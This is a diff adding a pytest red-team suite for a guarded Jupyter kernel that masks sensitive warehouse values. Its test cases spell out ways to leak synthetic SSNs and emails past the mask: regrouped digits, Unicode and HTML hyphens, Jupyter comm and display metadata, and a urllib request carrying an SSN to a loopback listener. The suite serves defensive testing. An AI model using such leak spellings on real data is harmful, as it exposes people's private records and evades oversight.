@@ -1,0 +1,158 @@
+"""Red team, issue 15: values read from a sensitive column leave by neighbouring channels.
+
+In a real guarded kernel reading the warehouse, each attack spelling is checked on every message
+the kernel sends for the cell (iopub and the shell reply) and on the bytes a loopback listener
+receives; each has a benign twin that still runs with its plain values intact.
+"""
+from __future__ import annotations
+
+import json
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from tests.enforce.test_exits import Recorder
+from tests.kernelutil import Kernel, Reply, guarded_kernel
+
+pytestmark = pytest.mark.kernel
+
+EMAILS = [f"user{n}@example.com" for n in range(60)]
+SSNS = [f"{100000000 + n:09d}" for n in range(60)]
+
+
+@pytest.fixture(scope="module")
+def k(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Kernel]:
+    with guarded_kernel(tmp_path_factory.mktemp("red15"), warehouse=200, connect=True) as kernel:
+        kernel.ok("df = con.sql('SELECT * FROM customers ORDER BY id LIMIT 60').df()\n"
+                  "E = df.email.tolist()\nS = df.ssn.tolist()")
+        yield kernel
+
+
+@pytest.fixture()
+def rec() -> Iterator[Recorder]:
+    r = Recorder()
+    yield r
+    r.close()
+
+
+def wire(result: Reply) -> str:
+    """Every message of the cell but the echo of its code, metadata and the reply included."""
+    return json.dumps([[m["msg_type"], m["content"], m.get("metadata", {})]
+                       for m in result.messages if m["msg_type"] != "execute_input"]
+                      + [result.reply], ensure_ascii=False)
+
+
+def _digits(text: str) -> str:
+    """``text`` with the separators a grouped number is spelt with dropped (``-``, Unicode
+    dashes, spaces), as a reader would undo them."""
+    for c in " -\u2010\u2011\u2012\u2013\u2014\u2212\u00a0":
+        text = text.replace(c, "")
+    return text
+
+
+def assert_no_raw(text: str) -> None:
+    hits = [v for v in EMAILS[5:] + SSNS[5:] if v in text or v in _digits(text)]
+    assert not hits, f"raw values: {hits[:3]}\n{text[:2000]}"
+
+
+GROUPED = [
+    pytest.param("s = S[31]\nprint(s[:3] + '-' + s[3:5] + '-' + s[5:])", id="ssn-dashes"),
+    pytest.param("s = S[32]\nprint(s[:3] + '\\u2011' + s[3:5] + '\\u2011' + s[5:])",
+                 id="ssn-non-breaking-hyphens"),
+    pytest.param("s = S[33]\nprint(s[:3] + '\\u2014' + s[3:5] + '\\u2014' + s[5:])",
+                 id="ssn-em-dashes"),
+    pytest.param("s = S[34]\nprint(s[:3] + '\\u2212' + s[3:5] + '\\u2212' + s[5:])",
+                 id="ssn-minus-signs"),
+    pytest.param("print(' '.join(S[35]))", id="ssn-digit-by-digit"),
+    pytest.param("print([f'{s[:3]} {s[3:5]} {s[5:]}' for s in S[36:40]])", id="ssn-spaced-list"),
+    pytest.param("from IPython.display import HTML\n"
+                 "HTML('<td>' + S[41][:3] + '&#8209;' + S[41][3:5] + '&#8209;' + S[41][5:])",
+                 id="html-entity-hyphens"),
+]
+
+
+@pytest.mark.parametrize("code", GROUPED)
+def test_known_numbers_in_digit_groups_are_masked(k: Kernel, code: str) -> None:
+    assert_no_raw(wire(k.run(code)))
+
+
+def test_grouped_plain_numbers_are_shown(k: Kernel) -> None:
+    r = k.ok("print('on 2024-01-15 from 10.0.0.1, batch 12 34 56 78 90, id 100-00-00')")
+    assert "on 2024-01-15 from 10.0.0.1, batch 12 34 56 78 90, id 100-00-00" in r.stream
+
+
+def test_grouped_known_number_in_a_query_string_is_refused(k: Kernel, rec: Recorder) -> None:
+    k.ok(f"URL = 'http://127.0.0.1:{rec.port}/'")
+    r = k.run("import urllib.request as u\ns = S[42]\n"
+              "u.urlopen(URL + '?d=' + s[:3] + '-' + s[3:5] + '-' + s[5:])")
+    assert "[exfiltration]" in r.everything(), r.everything()
+    assert_no_raw(bytes(rec.received).decode("latin-1"))
+
+
+def test_grouped_plain_query_string_is_sent(k: Kernel, rec: Recorder) -> None:
+    k.ok(f"URL = 'http://127.0.0.1:{rec.port}/'")
+    k.ok("import urllib.request as u\nassert u.urlopen(URL + '?d=2024-01-15&n=100-00-00')"
+         ".read() == b'city,n\\n\\n'")
+    deadline = time.monotonic() + 30
+    while b"2024-01-15" not in rec.received and time.monotonic() < deadline:
+        time.sleep(0.05)
+    assert b"?d=2024-01-15&n=100-00-00" in rec.received
+
+
+WIRE = [
+    pytest.param("from ipykernel.comm import Comm\nc = Comm(target_name='t', data={'x': 1})\n"
+                 "c.send({'v': 1}, metadata={'m': S[43]})", id="comm-metadata"),
+    pytest.param("from comm import create_comm\nc = create_comm(target_name='t', "
+                 "data={'x': 1}, metadata={'m': E[44]})", id="comm-open-metadata"),
+    pytest.param("from comm import create_comm\nc = create_comm(target_name='t', data={})\n"
+                 "c.send({E[45]: 1})", id="comm-data-key"),
+    pytest.param("_k = get_ipython().kernel\n_k.session.send(_k.iopub_socket, 'my_type', "
+                 "{'v': E[46]}, parent=_k.get_parent())", id="made-up-message-type"),
+    pytest.param("_k = get_ipython().kernel\n_k.session.send(_k.iopub_socket, 'clear_output', "
+                 "{'wait': False, 'v': S[47]}, parent=_k.get_parent())", id="clear-output-extra"),
+    pytest.param("from comm import create_comm\nc = create_comm(target_name='t', data={})\n"
+                 "c.close({'v': E[48]})", id="comm-close-data"),
+    pytest.param("display({'text/plain': 'x'}, raw=True, transient={'display_id': E[49]})",
+                 id="display-transient"),
+    pytest.param("display({'application/json': {E[50]: 1}}, raw=True)", id="json-key"),
+]
+
+
+@pytest.mark.parametrize("code", WIRE)
+def test_no_raw_value_in_any_message(k: Kernel, code: str) -> None:
+    assert_no_raw(wire(k.run(code)))
+
+
+def test_benign_comms_and_displays_keep_their_values(k: Kernel) -> None:
+    r = k.ok("from comm import create_comm\nc = create_comm(target_name='t', data={'n': 1}, "
+             "metadata={'version': '2.1.0'})\nc.send({'order 100000245': 'Paris'}, "
+             "metadata={'k': 'SKU-12345-XL'})\n"
+             "display({'application/json': {'Lyon': 3}}, raw=True, "
+             "transient={'display_id': 'plain-id'})")
+    text = wire(r)
+    for plain in ("2.1.0", "order 100000245", "Paris", "SKU-12345-XL", "Lyon", "plain-id"):
+        assert plain in text, plain
+    kinds = [m["msg_type"] for m in r.messages]
+    assert "comm_open" in kinds and "comm_msg" in kinds and "display_data" in kinds
+
+
+def test_status_and_code_echo_are_left_alone(k: Kernel) -> None:
+    r = k.ok("x = 'order 100000245'")
+    states = [m["content"]["execution_state"] for m in r.messages if m["msg_type"] == "status"]
+    assert states == ["busy", "idle"]
+    echo = [m["content"]["code"] for m in r.messages if m["msg_type"] == "execute_input"]
+    assert echo == ["x = 'order 100000245'"]
+
+
+def test_kernel_info_is_answered_whole(k: Kernel) -> None:
+    msg_id = k.kc.kernel_info()
+    reply = k.kc.get_shell_msg(timeout=60)
+    while reply["parent_header"].get("msg_id") != msg_id:
+        reply = k.kc.get_shell_msg(timeout=60)
+    assert reply["content"]["language_info"]["name"] == "python"
+
+
+def test_workdir_is_real(k: Kernel) -> None:
+    assert Path(k.workdir, "wh.duckdb").exists()
